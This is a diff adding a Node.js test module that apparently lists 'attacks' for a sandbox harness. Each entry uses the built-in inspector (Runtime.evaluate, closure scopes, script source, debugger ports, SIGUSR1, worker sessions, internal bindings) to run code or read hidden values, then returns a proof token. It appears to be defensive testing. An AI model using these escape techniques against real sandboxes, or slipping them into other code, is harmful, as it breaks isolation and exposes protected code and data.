@@ -1,0 +1,142 @@
+/** The debugger turned on the process itself. The effect: `lab.code` ran by it, it showed the handler's source, or it listens. */
+'use strict';
+exports.category = 'inspector';
+
+const proof = () => globalThis.proof;
+const port = (lab) => 20000 + (parseInt(lab.token.slice(0, 8), 16) % 20000);
+
+function session() {
+  const inspector = require('node:inspector');
+  const session = new inspector.Session();
+  session.connect();
+  return session;
+}
+
+const post = (on, method, params) =>
+  new Promise((done, failed) => on.post(method, params, (error, result) => (error ? failed(Object.assign(new Error(error.message), error)) : done(result))));
+
+/** Whether a debugger answers: the path of its socket is not known beforehand. */
+async function listening(lab, at) {
+  for (let tries = 0; tries < 20; tries++) {
+    try {
+      const targets = await (await fetch(`http://127.0.0.1:${at}/json/list`)).json();
+      if (targets[0].webSocketDebuggerUrl) return lab.proof;
+    } catch {
+      await new Promise((done) => setTimeout(done, 25));
+    }
+  }
+  throw new Error('no debugger answers');
+}
+
+async function onSignal(lab, signal) {
+  process.debugPort = port(lab);
+  signal();
+  return listening(lab, port(lab));
+}
+
+exports.attacks = {
+  'Session, Runtime.evaluate': { run: async (lab) => (await post(session(), 'Runtime.evaluate', { expression: lab.code })) && proof() },
+  'Session of inspector/promises': {
+    run: async (lab) => {
+      const session = new (require('node:inspector/promises').Session)();
+      session.connect();
+      await session.post('Runtime.evaluate', { expression: lab.code });
+      return proof();
+    },
+  },
+  'Session by process.getBuiltinModule': {
+    run: async (lab) => {
+      const session = new (process.getBuiltinModule('inspector').Session)();
+      session.connect();
+      await post(session, 'Runtime.evaluate', { expression: lab.code });
+      return proof();
+    },
+  },
+  'Session by dynamic import': {
+    run: async (lab) => {
+      const session = new (await import('node:inspector')).Session();
+      session.connect();
+      await post(session, 'Runtime.evaluate', { expression: lab.code });
+      return proof();
+    },
+  },
+  'scopes of a function': {
+    run: async (lab) => {
+      const own = session();
+      globalThis.closure = ((hidden) => () => hidden)(lab.proof);
+      const { result } = await post(own, 'Runtime.evaluate', { expression: 'closure' });
+      const { internalProperties } = await post(own, 'Runtime.getProperties', { objectId: result.objectId });
+      const scopes = internalProperties.find(({ name }) => name === '[[Scopes]]').value.objectId;
+      const first = (await post(own, 'Runtime.getProperties', { objectId: scopes, ownProperties: true })).result[0].value.objectId;
+      const variables = (await post(own, 'Runtime.getProperties', { objectId: first })).result;
+      return variables.find(({ name }) => name === 'hidden').value.value;
+    },
+  },
+  'source of a script': {
+    run: async (lab) => {
+      const own = session();
+      const scripts = [];
+      own.on('Debugger.scriptParsed', ({ params }) => scripts.push(params));
+      await post(own, 'Debugger.enable');
+      const script = scripts.find(({ url }) => url.endsWith(lab.source.split('/').pop()));
+      return (await post(own, 'Debugger.getScriptSource', { scriptId: script.scriptId })).scriptSource;
+    },
+    proves: 'source',
+  },
+  'inspector.open': {
+    run: (lab) => {
+      require('node:inspector').open(port(lab), '127.0.0.1');
+      return listening(lab, port(lab));
+    },
+  },
+  'inspector.open by dynamic import': {
+    run: async (lab) => {
+      (await import('node:inspector')).open(port(lab), '127.0.0.1');
+      return listening(lab, port(lab));
+    },
+  },
+  'SIGUSR1': { run: (lab) => onSignal(lab, () => process.kill(process.pid, 'SIGUSR1')) },
+  'SIGUSR1 by number': { run: (lab) => onSignal(lab, () => process.kill(process.pid, 10)) },
+  'SIGUSR1 by process._kill': { run: (lab) => onSignal(lab, () => process._kill(process.pid, 10)) },
+  'SIGUSR1 to the process group': { run: (lab) => onSignal(lab, () => process.kill(0, 'SIGUSR1')) },
+  'process._debugProcess': { run: (lab) => onSignal(lab, () => process._debugProcess(process.pid)) },
+  'SIGUSR1 from a worker': { run: (lab) => onSignal(lab, () => lab.inWorker(`process.kill(process.pid, 'SIGUSR1')`, { env: {}, execArgv: [] }).catch(() => undefined)) },
+  'Session to the main thread from a worker': {
+    run: async (lab) => {
+      const evaluated = lab.inWorker(
+        `new Promise((done, failed) => {
+          const session = new (require('node:inspector').Session)();
+          session.connectToMainThread();
+          session.post('Runtime.evaluate', { expression: lab.code }, (error) => (error ? failed(new Error(error.message)) : done()));
+        })`,
+        { env: {}, execArgv: [] },
+      );
+      await evaluated;
+      return proof();
+    },
+  },
+  'inspector binding': {
+    run: async (lab) => {
+      const { Connection } = process.binding('inspector');
+      const answered = new Promise((done) => {
+        const connection = new Connection(done);
+        connection.dispatch(JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: lab.code } }));
+      });
+      await answered;
+      return proof();
+    },
+  },
+  'Session whose prototype was kept': {
+    run: async (lab) => {
+      const { Session } = require('node:inspector');
+      const own = Object.create(Session.prototype);
+      Reflect.apply(Session.prototype.connect, new Session(), []);
+      void own;
+      const other = new Session.prototype.constructor();
+      other.connect();
+      await post(other, 'Runtime.evaluate', { expression: lab.code });
+      return proof();
+    },
+  },
+  'during init': { init: true, run: async (lab) => (await post(session(), 'Runtime.evaluate', { expression: lab.code })) && proof() },
+};
